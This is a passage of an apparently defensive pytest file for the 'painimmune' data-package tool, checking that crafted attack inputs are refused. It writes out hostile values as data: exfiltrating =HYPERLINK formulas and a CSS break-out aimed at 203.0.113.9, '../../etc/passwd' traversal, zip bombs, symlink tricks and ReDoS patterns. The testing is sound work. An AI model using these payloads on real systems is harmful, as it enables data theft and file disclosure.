"""Untrusted packages, zips and output folders: no network, no writes outside, no traceback, no
formula reaches a spreadsheet. Each test hands painimmune something crafted, as an attacker would,
and checks what a user sees: one line naming the file, a non-zero exit, nothing else done.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

import painimmune as pim
from conftest import ROOT, run_build, run_cli
from rows import edit_rows, refresh_hash


def quick_first(cases: list, quick: int = 2) -> list:
    """A catalogue of attack cases: the first *quick* run in the default (fast) run, the rest carry
    the ``slow`` marker and run in ``.ci/run``, so that every case is checked before anything lands."""
    return [case if number < quick else pytest.param(*(case if isinstance(case, tuple) else (case,)), marks=pytest.mark.slow)
            for number, case in enumerate(cases)]



def edit_json(path: Path, change) -> None:  # noqa: ANN001
    document = json.loads(path.read_text(encoding="utf-8"))
    before = json.dumps(document)
    change(document)
    assert json.dumps(document) != before, f"{path.name}: the edit changed nothing"
    path.write_text(json.dumps(document, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")


def rebuild(package: Path) -> None:
    """Refresh hash and bytes, as an attacker would, so that the integrity check alone cannot stop the fault."""
    result = run_build(package)
    assert result.returncode == 0, result.stdout + result.stderr


def one_line_refusal(result: subprocess.CompletedProcess[str], *needles: str) -> None:
    assert result.returncode != 0, result.stdout
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("painimmune: "), result.stderr
    for needle in needles:
        assert needle in lines[0], lines[0]


# ---- no network -----------------------------------------------------------------------------------

@pytest.mark.slow  # every command in its own interpreter with networking disabled: about 20 s
def test_no_command_opens_a_network_connection(package_copy, tmp_path, offline):
    env, log = offline
    commands = [("list",), ("show", "mediators"), ("validate", package_copy), ("about", "crps"), ("cite", "--format", "bibtex"),
                ("diff", package_copy, package_copy), *[("export", "--format", f, "--out", tmp_path / f) for f in
                                                        ("csv", "json", "parquet", "sqlite", "kgx", "sssom")]]
    for command in commands:
        result = run_cli(*command, env=env)
        assert result.returncode == 0, (command, result.stderr)
    assert log.read_text() == ""


def test_a_remote_profile_is_refused_at_once_without_a_request(package_copy, offline):
    env, log = offline
    edit_json(package_copy / "datapackage.json", lambda d: d.update(profile="http://203.0.113.9/profile.json"))
    result = run_cli("validate", package_copy, env=env)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "'profile' is refused" in result.stderr and log.read_text() == ""


@pytest.mark.parametrize("change, needle", quick_first([
    (lambda d: d.update({"$schema": "https://example.org/evil.json"}), "'$schema' must be"),
    (lambda d: d["resources"][0].update(path="https://example.org/mediators.csv"), "is a remote or absolute reference"),
    (lambda d: d["resources"][0].update(schema="http://example.org/schema.json"), "is a remote or absolute reference"),
    (lambda d: d["resources"][0].update(dialect="http://example.org/dialect.json"), "'dialect' must be an inline object"),
], quick=1))
def test_remote_references_of_any_kind_are_refused(package_copy, offline, change, needle):
    env, log = offline
    edit_json(package_copy / "datapackage.json", change)
    result = run_cli("validate", package_copy, env=env)
    assert result.returncode == 1 and "Traceback" not in result.stderr and needle in result.stderr
    assert log.read_text() == ""


# ---- no formula, no control character -------------------------------------------------------------

@pytest.mark.parametrize("value, rule", quick_first([
    ('=HYPERLINK("http://203.0.113.9","click")', "spreadsheet-formula"), ("+1 (555) 0100", "spreadsheet-formula"),
    ("-2+3", "spreadsheet-formula"), ("@SUM(A1:A9)", "spreadsheet-formula"), ("\tindented", "spreadsheet-formula"),
    ("\uff1dSUM(A1)", "spreadsheet-formula"), ("\uff0b1", "spreadsheet-formula"), ("\uff20SUM(A1)", "spreadsheet-formula"),
    ("\u200b=HYPERLINK(1)", "invisible-character"),
    ("nul\x00byte", "invisible-character"), ("escape \x1b[31mred", "invisible-character"),
    ("right\u202eto left", "invisible-character"), ("bell\x07", "invisible-character"),
]))
def test_formulas_and_control_characters_are_refused_in_text_cells_and_list_items(package_copy, tmp_path, value, rule):
    with edit_rows(package_copy, "mediators") as mediators:
        mediators.change("tnf", "synonyms", lambda v: v + "|" + value)
    rebuild_refused = run_build(package_copy)
    assert rebuild_refused.returncode == 1 and rule in rebuild_refused.stderr
    result = run_cli("validate", package_copy, "--format", "json")
    problems = [p for p in json.loads(result.stdout)["problems"] if p["rule"] == rule]
    assert [(p["table"], p["row"], p["column"]) for p in problems] == [("mediators", "tnf", "synonyms")]
    export = run_cli("export", "--format", "csv", "--out", tmp_path / "out", "--path", package_copy)
    one_line_refusal(export, "refused: the package does not validate", rule)
    assert not (tmp_path / "out" / "tables").exists()


@pytest.mark.parametrize("value", quick_first(["8\u0665\u0668", "8\uff158", "9007199254740993", "99999999999999999999999", "-0", "+5",
                                                "05", "1_000", " 5"]))
def test_an_integer_in_another_form_or_beyond_15_digits_is_refused_by_validate_and_load(package_copy, value):
    """One text form of a whole number, exact for every reader: no other digits, sign or size gets
    through validation, and the loader names the cell rather than changing or crashing on it."""
    with edit_rows(package_copy, "cell_mediators") as rows:
        rows.change("cm0001", "quote_start", lambda v: value)
    result = run_cli("validate", package_copy, "--format", "json")
    assert result.returncode == 1 and "Traceback" not in result.stderr
    problems = json.loads(result.stdout)["problems"]
    assert any(p["rule"] == "type" and (p["table"], p["row"], p["column"]) == ("cell_mediators", "cm0001", "quote_start")
               for p in problems), problems
    with pytest.raises(pim.DataError, match=r"cell_mediators: row cm0001: column quote_start: value .* is not an integer"):
        pim.load("cell_mediators", package_copy, verify=False)
    for command in (("show", "cell_mediators"), ("about", "TNF")):
        shown = run_cli(*command, "--path", package_copy)
        assert shown.returncode == 1 and "Traceback" not in shown.stderr and "internal error" not in shown.stderr, shown.stderr


def test_a_text_cell_beginning_with_a_pipe_is_refused_as_a_formula(package_copy):
    """(In a list whose delimiter is |, the same text is an empty item: rule empty-list-item.)"""
    with edit_rows(package_copy, "mediators") as mediators:
        mediators.change("tnf", "description", lambda v: "|calc " + v)
    result = run_cli("validate", package_copy, "--format", "json")
    problems = [p for p in json.loads(result.stdout)["problems"] if p["rule"] == "spreadsheet-formula"]
    assert [(p["table"], p["row"], p["column"]) for p in problems] == [("mediators", "tnf", "description")]


def test_negative_numbers_in_numeric_columns_are_fine():
    from painimmune.validation import validate

    assert validate(rules=["spreadsheet-formula", "invisible-character"]).valid


@pytest.mark.parametrize("char", quick_first([
    "\u00ad", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u061c", "\u3164", "\U000e0041", "\u2028", "\u2029",
    "\u00a0", "\ufe0f", "\u034f", "\ue000", "\u17b4", "\u17b5", "\U00016fe4", "\u2800", "\u115f",
]))
def test_an_invisible_character_is_refused_with_its_code_point_wherever_text_is(package_copy, char):
    from painimmune.package.characters import describe

    with edit_rows(package_copy, "cell_conditions") as rows:  # a quote: "do n\u00adot" must not read as a plain "do not"
        rows.change("cc0001", "note", lambda v: v[:4] + char + v[4:])
    with edit_rows(package_copy, "mediators") as mediators:  # an id of its own: "TNF\u200b-α" would be a second TNF
        mediators.change("tnf", "name", lambda v: v[:3] + char + v[3:])
    run_build(package_copy)
    result = run_cli("validate", package_copy, "--format", "json")
    problems = [p for p in json.loads(result.stdout)["problems"] if p["rule"] == "invisible-character"]
    assert {(p["table"], p["row"], p["column"]) for p in problems} == {("cell_conditions", "cc0001", "note"), ("mediators", "tnf", "name")}
    assert all(f"holds {describe(char)} at character" in p["message"] for p in problems)


@pytest.mark.parametrize("char", quick_first([
    "\u0422",  # CYRILLIC CAPITAL LETTER TE: "ТNF-α" reads as TNF
    "\u0430",  # CYRILLIC SMALL LETTER A
    "\u03a4",  # GREEK CAPITAL LETTER TAU
    "\u03bf",  # GREEK SMALL LETTER OMICRON
    "\uff34",  # FULLWIDTH LATIN CAPITAL LETTER T
    "\U0001d413",  # MATHEMATICAL BOLD CAPITAL T
    "\u1d1b",  # LATIN LETTER SMALL CAPITAL T
    "\u2160",  # ROMAN NUMERAL ONE
    "\u0661",  # ARABIC-INDIC DIGIT ONE
    "\u00b5",  # MICRO SIGN (for the Greek μ)
    "\u5b57",  # a letter of another writing system
    "\u03c1",  # GREEK SMALL LETTER RHO (reads as p)
    "\u0131",  # LATIN SMALL LETTER DOTLESS I
    "\u00df",  # LATIN SMALL LETTER SHARP S (reads as β)
    "\u01c0",  # LATIN LETTER DENTAL CLICK (reads as l)
    "\u237a",  # APL FUNCTIONAL SYMBOL ALPHA (reads as α)
    "\u212a",  # KELVIN SIGN
    "\u0335",  # COMBINING SHORT STROKE OVERLAY, joined to no letter
]))
def test_a_lookalike_letter_is_refused_with_its_code_point_in_any_text_cell(package_copy, char):
    """Every fingerprint refreshed (the build runs), so only the rule can stop "ТNF-α" from being a
    second TNF that no reader can tell from the first."""
    from painimmune.package.characters import describe

    with edit_rows(package_copy, "mediators") as mediators:
        mediators.change("tnf", "name", lambda v: char + v[1:])
        mediators.change("il6", "synonyms", lambda v: v.replace("IL-6", f"IL-{char}", 1) if "IL-6" in v else f"{v}|IL{char}6")
    run_build(package_copy)
    result = run_cli("validate", package_copy, "--format", "json")
    problems = [p for p in json.loads(result.stdout)["problems"] if p["rule"] == "lookalike-letter"]
    assert result.returncode == 1
    assert {(p["table"], p["row"], p["column"]) for p in problems} == {("mediators", "tnf", "name"), ("mediators", "il6", "synonyms")}
    assert all(f"holds {describe(char)} at character" in p["message"] for p in problems)


def test_greek_small_letters_and_latin_diacritics_are_letters_a_cell_may_hold():
    """The real data writes TNF-α, IL-1β and Guillain–Barré: the look-alike rule must keep them."""
    from painimmune.package.characters import first_lookalike

    assert [first_lookalike(text) for text in ("TNF-α", "IL-1β", "NF-κB", "IFN-γ", "μ-opioid", "Guillain–Barré", "Sjögren", "10²",
                                               "37 °C", "© 2020 “quoted” — text…")] == [None] * 10
    assert validate_rules(["lookalike-letter"])


def validate_rules(rules: list[str]) -> bool:
    from painimmune.validation import validate

    return validate(rules=rules).valid


# ---- safe outputs --------------------------------------------------------------------------------

def test_an_export_replaces_a_symlink_in_its_folder_and_never_writes_through_it(tmp_path):
    out = tmp_path / "out"
    assert run_cli("export", "--format", "kgx", "--out", out).returncode == 0
    precious = tmp_path / "precious.txt"
    precious.write_text("keep me", encoding="utf-8")
    (out / "nodes.tsv").unlink()
    (out / "nodes.tsv").symlink_to(precious)  # a link where the earlier export's file was
    assert run_cli("export", "--format", "kgx", "--out", out).returncode == 0
    assert precious.read_text(encoding="utf-8") == "keep me"
    assert not (out / "nodes.tsv").is_symlink() and (out / "nodes.tsv").read_text(encoding="utf-8").startswith("id\t")


def test_a_symlinked_folder_inside_the_output_folder_is_refused(tmp_path):
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    assert run_cli("export", "--format", "csv", "--out", out).returncode == 0
    elsewhere.mkdir()
    shutil.rmtree(out / "tables")
    (out / "tables").symlink_to(elsewhere, target_is_directory=True)  # a link where the earlier export's folder was
    result = run_cli("export", "--format", "csv", "--out", out)
    one_line_refusal(result, "it holds tables (symbolic link), which `painimmune export --format csv` did not write")
    assert list(elsewhere.iterdir()) == [] and (out / "tables").is_symlink()


def test_a_failed_export_leaves_nothing_partial(tmp_path, monkeypatch):
    from painimmune.export import export, sqlite

    def fail(package, target):  # noqa: ANN001
        target.write_bytes(b"half a database")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(sqlite, "_fill", fail)
    with pytest.raises(OSError):
        export("sqlite", tmp_path)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.slow  # several seconds: CI runs it (.ci/run), the fast run does not
def test_two_exports_into_one_folder_both_succeed_and_leave_a_valid_database(tmp_path):
    command = [sys.executable, "-m", "painimmune", "export", "--format", "sqlite", "--out", str(tmp_path)]
    first, second = (subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE) for _ in range(2))
    assert first.wait(300) == 0 and second.wait(300) == 0
    with sqlite3.connect(tmp_path / "painimmune.db") as db:
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        assert db.execute("SELECT count(*) FROM mediators").fetchone() == (len(pim.load("mediators")),)
    db.close()
    assert sorted(p.name for p in tmp_path.iterdir()) == [".painimmune-output.json", "metadata.json", "painimmune.db"]


# ---- safe zips -----------------------------------------------------------------------------------

def release_zip(package: Path, target: Path, extra: dict[str, bytes] | None = None, prefix: str = "painimmune-x/") -> Path:
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(package.rglob("*")):
            if path.is_file() and path.relative_to(package).parts[0] in ("datapackage.json", "tables", "schemas"):
                archive.write(path, prefix + path.relative_to(package).as_posix())
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return target


def test_a_release_zip_diffs_like_its_folder(package_copy, tmp_path):
    result = run_cli("diff", release_zip(package_copy, tmp_path / "a.zip"), package_copy, "--exit-code")
    assert result.returncode == 0 and "no differences in" in result.stdout


@pytest.mark.parametrize("repeated_side", ["new", "old"])
@pytest.mark.parametrize("changed", [{}, {"note": "a differing duplicate"}])
def test_diff_refuses_a_table_that_repeats_a_primary_key(package_copy, tmp_path, repeated_side, changed):
    """A repeated key would let one row hide the other, and an exact duplicate would read as no
    difference at all: either side repeating a key is refused, naming the side, table and key."""
    original = tmp_path / "original"
    shutil.copytree(package_copy, original)
    with edit_rows(package_copy, "withdrawn_rows") as rows:
        key = rows.keys()[0]
        rows.copy(key, **changed)
    refresh_hash(package_copy, "withdrawn_rows")
    sides = (original, package_copy) if repeated_side == "new" else (package_copy, original)
    result = run_cli("diff", *sides, "--exit-code")
    one_line_refusal(result, f"{package_copy}: withdrawn_rows: primary key '{key}' is repeated (lines 2 and ",
                     "the diff is refused")
    assert result.stdout == ""


@pytest.mark.parametrize("extra, needle", [
    ({"second/datapackage.json": b"{}"}, "holds 2 packages"),
    ({f"junk/{i}.txt": b"" for i in range(10_001)}, "more than the limit of 10,000"),
    ({"painimmune-x/tables/" + "\u00e9" * 200 + ".csv": b"id\n"}, "a name with a part of 404 bytes, more than a file system takes (255)"),
])
def test_unsafe_zips_are_refused_with_one_line(package_copy, tmp_path, extra, needle):
    archive = release_zip(package_copy, tmp_path / "x.zip", extra)
    one_line_refusal(run_cli("diff", archive, package_copy), needle)


def test_a_zip_too_large_once_uncompressed_is_refused(package_copy, tmp_path, monkeypatch):
    from painimmune.diff import diff
    from painimmune.package import zipped

    monkeypatch.setattr(zipped, "MAX_TOTAL", 2 * 1024 * 1024)
    archive = release_zip(package_copy, tmp_path / "big.zip", {"padding.bin": bytes(3 * 1024 * 1024)})
    with pytest.raises(pim.DataError, match="more than the limit of 2,097,152; refused"):
        diff(archive, package_copy)


@pytest.mark.filterwarnings("ignore:Duplicate name")  # the crafted zip repeats a member on purpose
def test_a_zip_bomb_member_is_refused(package_copy, tmp_path):
    archive = tmp_path / "bomb.zip"
    release_zip(package_copy, archive, prefix="")
    with zipfile.ZipFile(archive, "a", zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr("tables/mediators.csv", bytes(100 * 1024 * 1024))  # a second, highly compressed member
    with zipfile.ZipFile(archive) as zipped:  # (the last member of a name is the one read)
        assert zipped.getinfo("tables/mediators.csv").compress_size < 1024 * 1024
    one_line_refusal(run_cli("diff", archive, package_copy), "compressed more than 200 times")


def test_corrupt_and_encrypted_members_are_refused(package_copy, tmp_path):
    stored = tmp_path / "crc.zip"
    with zipfile.ZipFile(stored, "w", zipfile.ZIP_STORED) as archive:
        for path in sorted(package_copy.rglob("*")):
            if path.is_file() and path.relative_to(package_copy).parts[0] in ("datapackage.json", "tables", "schemas"):
                archive.write(path, path.relative_to(package_copy).as_posix())
    data = bytearray(stored.read_bytes())
    where = data.index(b"tumour necrosis factor")
    data[where] ^= 0x20  # one letter's case flipped inside the stored mediators table: its CRC no longer matches
    stored.write_bytes(bytes(data))
    one_line_refusal(run_cli("diff", stored, package_copy), "crc.zip: member tables/", "its data is corrupt (Bad CRC-32")
    locked = tmp_path / "locked.zip"
    data = bytearray(release_zip(package_copy, locked, prefix="").read_bytes())
    for signature, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):  # local and central headers
        start = 0
        while (start := data.find(signature, start)) != -1:
            data[start + flags_at] |= 0x01  # 'encrypted'
            start += 4
    locked.write_bytes(bytes(data))
    one_line_refusal(run_cli("diff", locked, package_copy), "encrypted")


@pytest.mark.filterwarnings("ignore:Duplicate name")  # the crafted zip repeats a member on purpose
def test_a_zip_naming_files_outside_the_package_is_refused(package_copy, tmp_path):
    archive = release_zip(package_copy, tmp_path / "evil.zip", prefix="")
    with zipfile.ZipFile(archive, "a") as zipped:
        descriptor = json.loads(zipped.read("datapackage.json"))
    descriptor["resources"][0]["path"] = "../../etc/passwd"
    with zipfile.ZipFile(archive, "a") as zipped:
        zipped.writestr("datapackage.json", json.dumps(descriptor))
    result = run_cli("diff", archive, package_copy)
    assert result.returncode == 1 and "Traceback" not in result.stderr


# ---- everything that can be hashed is ------------------------------------------------------------

def test_a_schema_changed_under_a_verified_load_is_refused(package_copy):
    # A changed list delimiter would split every synonym wrongly: the schema's hash stops it.
    edit_json(package_copy / "schemas" / "mediators.json",
              lambda s: next(f for f in s["fields"] if f["name"] == "synonyms").update(delimiter=";"))
    with pytest.raises(pim.IntegrityError, match="schemas/mediators.json: the file changed after the package was built"):
        pim.load("mediators", package_copy)
    result = run_cli("validate", package_copy)
    assert "file-hash: schemas/mediators.json changed after the package was built" in result.stderr


def test_a_changed_citation_is_caught(package_copy):
    path = package_copy / "CITATION.cff"
    path.write_text(path.read_text(encoding="utf-8").replace("painimmune curators", "Someone Else"), encoding="utf-8")
    result = run_cli("validate", package_copy)
    assert result.returncode == 1 and "file-hash: CITATION.cff changed after the package was built" in result.stderr


def test_a_source_text_linked_from_outside_the_package_is_refused(package_copy, tmp_path):
    outside = tmp_path / "outside.txt"
    outside.write_bytes((package_copy / "sources" / "fmpm.txt").read_bytes())
    (package_copy / "sources" / "fmpm.txt").unlink()
    (package_copy / "sources" / "fmpm.txt").symlink_to(outside)
    result = run_cli("validate", package_copy)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "file 'sources/fmpm.txt' is or passes through a symbolic link (fmpm.txt); a package holds no link; refused" in result.stderr


# ---- crafted content never ends in a traceback -----------------------------------------------------

def schema_edit(table: str, change):  # noqa: ANN001, ANN201
    return lambda package: edit_json(package / "schemas" / f"{table}.json", change)


def descriptor_edit(change):  # noqa: ANN001, ANN201
    return lambda package: edit_json(package / "datapackage.json", change)


def write(relative: str, data: bytes):  # noqa: ANN201
    return lambda package: (package / relative).write_bytes(data)


CRAFTED = {
    "a field without a name": (schema_edit("mediators", lambda s: s["fields"][3].pop("name")), "field 4 must be an object with a 'name'"),
    "constraints given as a string": (schema_edit("mediators", lambda s: s["fields"][0].update(constraints="required")),
                                      "'constraints' must be an object"),
    "a foreign key without a reference": (schema_edit("cell_mediators", lambda s: s["foreignKeys"][0].pop("reference")),
                                          "foreign key 1: must be an object with 'fields' and a 'reference'"),
    "the sources resource removed": (descriptor_edit(lambda d: d["resources"].remove(next(r for r in d["resources"] if r["name"] == "sources"))),
                                     "'reference.resource' must name a resource of the package"),
    "a shake_128 hash": (descriptor_edit(lambda d: d["resources"][0].update(hash="shake_128:" + "0" * 32)),
                         "is not md5, sha1, sha256 or sha512"),
    "JSON nested 100,000 levels deep": (write("datapackage.json", b"[" * 100_000 + b"]" * 100_000), "nested more than 64 levels"),
    "no licenses": (descriptor_edit(lambda d: d.pop("licenses")), "'licenses' is required"),
    "duplicate JSON keys": (write("schemas/directions.json", b'{"fields": [], "fields": [{"name": "id"}]}'), "duplicate key 'fields'"),
    "two resources for one table": (descriptor_edit(lambda d: d["resources"].append({**d["resources"][0], "name": "mediators_again"})),
                                    "another resource has the path 'tables/mediators.csv'"),
    "a pattern that takes exponential time": (schema_edit("mediators", lambda s: s["fields"][0]["constraints"].update(pattern="^(a+)+$")),
                                              "which can take exponential time"),
    "a pattern that takes polynomial time": (schema_edit("sources", lambda s: next(f for f in s["fields"] if f["name"] == "note")
                                                          .setdefault("constraints", {}).update(pattern=".*.*.*.*.*=")),
                                             "two unbounded repetitions in a row that can match the same characters"),
    "a descriptor that is not an object": (write("datapackage.json", b"[1, 2, 3]"), "the descriptor must be a JSON object"),
    "a resource that is a string": (descriptor_edit(lambda d: d["resources"].append("mediators")), "must be a JSON object"),
    "a non-UTF-8 CITATION.cff": (write("CITATION.cff", "title: caf\u00e9".encode("latin-1")), "CITATION.cff is not UTF-8"),
    "a non-UTF-8 source text": (write("sources/fmpm.txt", "caf\u00e9".encode("latin-1")), "sources/fmpm.txt is not UTF-8"),
    "a title in Unicode NFD": (descriptor_edit(lambda d: d.update(title="Cafe\u0301 data")), "is not in Unicode normal form NFC"),
    "a CSV dialect with another delimiter": (descriptor_edit(lambda d: d["resources"][0].update(dialect={"delimiter": ";"})),
                                             "'dialect' 'delimiter' must be ','"),
    "a Table Schema that reads NA as missing": (schema_edit("mediators", lambda s: s.update(missingValues=["", "NA"])),
                                                "'missingValues' must be ['']"),
    "a field with its own missing values": (schema_edit("mediators", lambda s: s["fields"][1].update(missingValues=["none"])),
                                            "'missingValues' is refused"),
    "a boolean field reading 'no' as true": (schema_edit("evidence_levels", lambda s: s["fields"][1].update(trueValues=["no"])),
                                             "'trueValues' is refused"),
    "an integer field given a list as its maximum": (schema_edit("evidence_levels", lambda s: next(f for f in s["fields"] if f["name"] == "rank")["constraints"].update(maximum=[9])),
                                                     "'constraints' 'maximum' must be a finite number"),
}


@pytest.mark.parametrize("name", quick_first(list(CRAFTED), quick=3))
def test_crafted_content_is_named_not_a_traceback(package_copy, name):
    apply, needle = CRAFTED[name]
    apply(package_copy)
    for command in (("validate", package_copy), ("show", "mediators", "--path", package_copy), ("about", "crps", "--path", package_copy),
                    ("cite", "--path", package_copy)):
        result = run_cli(*command)
        assert "Traceback" not in result.stderr and "internal error" not in result.stderr, (command, result.stderr)
    result = run_cli("validate", package_copy)
    assert result.returncode == 1 and needle in result.stderr, result.stderr


def test_a_dangling_key_stops_about_and_every_export_with_one_line(package_copy, tmp_path):
    with edit_rows(package_copy, "treatment_conditions") as rows:
        rows.set("tc0002", condition_id="no_such_condition")
    refresh_hash(package_copy, "treatment_conditions")
    one_line_refusal(run_cli("about", "cox inhibitors", "--path", package_copy), "tc0002")
    one_line_refusal(run_cli("export", "--format", "sqlite", "--out", tmp_path / "out", "--path", package_copy), "foreign-key")
    assert not (tmp_path / "out").exists()


# ---- bounded ---------------------------------------------------------------------------------------

def test_a_fifo_in_place_of_a_table_is_refused_not_waited_on(package_copy):
    path = package_copy / "tables" / "directions.csv"
    path.unlink()
    os.mkfifo(path)
    result = run_cli("validate", package_copy, timeout=120)
    assert result.returncode == 1 and "is not a regular file" in result.stderr and "Traceback" not in result.stderr
    one_line_refusal(run_cli("show", "directions", "--path", package_copy, timeout=120), "is not a regular file")


def test_a_huge_header_is_named_in_linear_time(package_copy):
    path = package_copy / "tables" / "directions.csv"
    text = path.read_text(encoding="utf-8")
    header, rest = text.split("\n", 1)
    path.write_text(header + "," + ",".join(f"c{i}" for i in range(100_000)) + "\n" + rest, encoding="utf-8")
    result = run_cli("validate", package_copy)  # its time against the width: benchmarks/limits.py
    assert result.returncode == 1 and "and 99,980 more columns that are not in the schema" in result.stderr


def test_a_table_over_the_size_limit_is_refused_up_front(package_copy, monkeypatch):
    from painimmune.package import files

    monkeypatch.setitem(files.LIMITS, "table", 1000)
    with pytest.raises(pim.DataError, match="more than the limit of 1,000 for a table file; refused"):
        pim.load("mediators", package_copy, verify=False)


def test_tables_over_the_size_limit_together_are_refused_before_any_is_read(package_copy):
    for name in ("cell_conditions", "cell_mediators", "mediator_conditions"):
        with (package_copy / "tables" / f"{name}.csv").open("r+b") as handle:
            handle.truncate(200 * 1024 * 1024)  # sparse: each under the table limit, together over the package limit
    result = run_cli("validate", package_copy)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "the tables hold" in result.stderr and "more than the limit of 536,870,912; refused" in result.stderr
    one_line_refusal(run_cli("diff", ROOT, package_copy), "more than the limit of 536,870,912")


# ---- valid but unusual descriptors and schemas reach every output safely ---------------------------

def test_a_version_that_is_no_semantic_version_is_refused(package_copy):
    edit_json(package_copy / "datapackage.json", lambda d: d.update(version="2.0.0/.."))  # it would name release files
    result = run_cli("validate", package_copy)
    assert result.returncode == 1 and "descriptor-invalid: 'version' must be a semantic version" in result.stderr


@pytest.mark.slow  # a build and every export: CI runs it (.ci/run)
def test_creators_without_a_name_and_a_licence_without_a_path_reach_no_traceback(package_copy, tmp_path):
    def change(descriptor: dict) -> None:
        descriptor["contributors"].append({"roles": ["creator"]})
        descriptor["licenses"] = [{"name": "CC0-1.0"}]
    edit_json(package_copy / "datapackage.json", change)
    assert run_build(package_copy).returncode == 0
    assert run_cli("cite", "--path", package_copy).returncode == 0
    for fmt in ("sssom", "kgx", "sqlite"):
        result = run_cli("export", "--format", fmt, "--out", tmp_path / fmt, "--path", package_copy)
        assert result.returncode == 0, (fmt, result.stderr)
    from painimmune.export.sqlite import datasette_metadata
    from painimmune.package.descriptor import DataPackage

    assert datasette_metadata(DataPackage(package_copy))["license_url"] == ""


@pytest.mark.slow  # a build and every export: CI runs it (.ci/run)
def test_a_schema_title_cannot_break_out_of_the_datasette_stylesheet(package_copy):
    from painimmune.export.sqlite import row_page_css
    from painimmune.package.descriptor import DataPackage

    attack = "Modality\n} body { background: url(http://203.0.113.9/x.png) } x {"
    edit_json(package_copy / "schemas" / "treatments.json",
              lambda s: next(f for f in s["fields"] if f["name"] == "modality").update(title=attack))
    assert run_build(package_copy).returncode == 0
    css = row_page_css(DataPackage(package_copy))
    rule = next(line for line in css.splitlines() if "td.col-modality" in line and "table-treatments" in line)
    assert rule.endswith('"; }') and rule.count("{") == 1 and rule.count("}") == 1  # one rule, the title inside its string
    assert not any(line.lstrip().startswith("body {") for line in css.splitlines())


def test_the_site_checks_every_place_it_writes_before_writing_anything(tmp_path):
    from painimmune.site import build_site

    out = tmp_path / "site"
    out.mkdir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    marker = {"command": "painimmune site", "files": ["index.html", "static/style.css"]}  # an earlier website ...
    (out / ".painimmune-output.json").write_text(json.dumps(marker), encoding="utf-8")
    (out / "static").symlink_to(elsewhere)  # ... whose static folder is now a link
    with pytest.raises(pim.DataError, match=r"holds static \(symbolic link\), which `painimmune site` did not write"):
        build_site(out, ROOT)
    assert sorted(path.name for path in out.iterdir()) == [".painimmune-output.json", "static"] and not any(elsewhere.iterdir())


def test_a_descriptor_with_many_faults_is_refused_in_one_short_line(package_copy):
    edit_json(package_copy / "datapackage.json",
              lambda d: d["resources"].extend({**d["resources"][0], "name": f"copy{i}"} for i in range(200)))
    result = run_cli("about", "TNF", "--path", package_copy)
    one_line_refusal(result, "another resource has the path 'tables/", "; and 395 more")
    assert len(result.stderr) < 2000


@pytest.mark.parametrize("relative", ["tables/withdrawn_rows.csv", "schemas/mediators.json", "CITATION.cff", "tables"])
def test_a_link_or_a_loop_of_links_inside_a_package_is_refused_in_one_line(package_copy, relative):
    target = package_copy / relative
    shutil.rmtree(target) if target.is_dir() else target.unlink()
    target.symlink_to(target.name)  # a link to itself: a loop
    readers = [("validate", package_copy)] + ([("show", "withdrawn_rows", "--path", package_copy)] if relative != "CITATION.cff" else [])
    for command in readers:
        result = run_cli(*command)
        assert result.returncode == 1 and "Traceback" not in result.stderr and "internal error" not in result.stderr, result.stderr
        assert "symbolic link" in result.stderr, result.stderr
    if relative.startswith("tables"):
        with pytest.raises(pim.DataError, match="is or passes through a symbolic link"):
            pim.load("withdrawn_rows", package_copy)


def test_a_path_too_long_for_the_file_system_is_a_package_not_found_error(tmp_path):
    with pytest.raises(pim.PackageNotFoundError, match="cannot be looked up"):
        pim.load("mediators", tmp_path / ("a" * 300))


def test_a_descriptor_that_is_a_link_to_another_package_is_refused_in_either_path_form(package_copy, tmp_path):
    folder = tmp_path / "decoy"
    folder.mkdir()
    (folder / "datapackage.json").symlink_to(package_copy / "datapackage.json")
    for given in (folder, folder / "datapackage.json"):
        with pytest.raises(pim.PackageNotFoundError, match="a symbolic link; a package holds its datapackage.json"):
            pim.load("mediators", given)


@pytest.mark.parametrize("column, value, reason", [
    ("description", '=HYPERLINK("http://203.0.113.9/?"&A1,"click")', "text begins with =, which a spreadsheet runs as a formula"),
    ("description", "bidi \u202egnp.exe", "text holds U+202E"),
    ("synonyms", "TNF|@SUM(A1)", "an item begins with @, which a spreadsheet runs as a formula"),
])
def test_load_refuses_a_formula_or_invisible_character_even_with_refreshed_hashes(package_copy, column, value, reason):
    """A package whose hashes were refreshed after the edit passes the hash check; the loader still
    hands no formula or hidden character to a program that would write it out."""
    with edit_rows(package_copy, "mediators") as mediators:
        mediators.change("tnf", column, lambda v: value)
    refresh_hash(package_copy, "mediators")
    with pytest.raises(pim.DataError, match=f"mediators: row tnf: column {column}: value .*: {re.escape(reason)}"):
        pim.load("mediators", package_copy)
    shown = run_cli("show", "mediators", "--path", package_copy)
    assert shown.returncode == 1 and "Traceback" not in shown.stderr and reason in shown.stderr


def test_every_character_the_loader_lets_through_unlooked_at_shows():
    """painimmune.package.cells.SHOWN: a value of these characters alone is not looked at one by one,
    so each must be one that painimmune.package.characters accepts."""
    from painimmune.package import characters
    from painimmune.package.cells import SHOWN

    shown = [chr(code) for code in range(0x30000) if not 0xD800 <= code < 0xE000 and re.fullmatch(f"[{SHOWN}]", chr(code))]
    assert len(shown) > 400 and [char for char in shown if characters.first_refused(char) is not None] == []


@pytest.mark.parametrize(("pattern", "refused"), [
    (".*.*=", True), (".*=.*=", True), (r"\w+x?\w+", True), (r"\d+\s*\d+", True), ("(?:x.*){1,5}", True), ("(a|.*)(.*)", True),
